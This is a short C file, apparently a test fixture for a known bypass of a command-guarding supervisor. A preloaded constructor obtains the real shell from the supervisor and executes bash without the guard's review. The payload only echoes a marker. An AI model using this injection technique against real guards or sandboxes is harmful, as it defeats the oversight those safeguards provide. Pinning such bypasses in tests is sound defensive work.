/* Known bypass, pinned by tests/enforce.rs: native code preloaded into the guard asks the
 * supervisor for the real shell as the guard would, and runs it without any judgement. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <stdlib.h>
#include <stdio.h>
extern char **environ;
__attribute__((constructor)) static void go(void) {
  unsetenv("LD_PRELOAD");
  int fd = openat(0x53474144, "", O_PATH|O_CLOEXEC, 0);
  if (fd < 0) { perror("openat"); return; }
  char *argv[] = {"bash", "-c", "echo UNGUARDED-SHELL", NULL};
  syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
  perror("execveat");
}
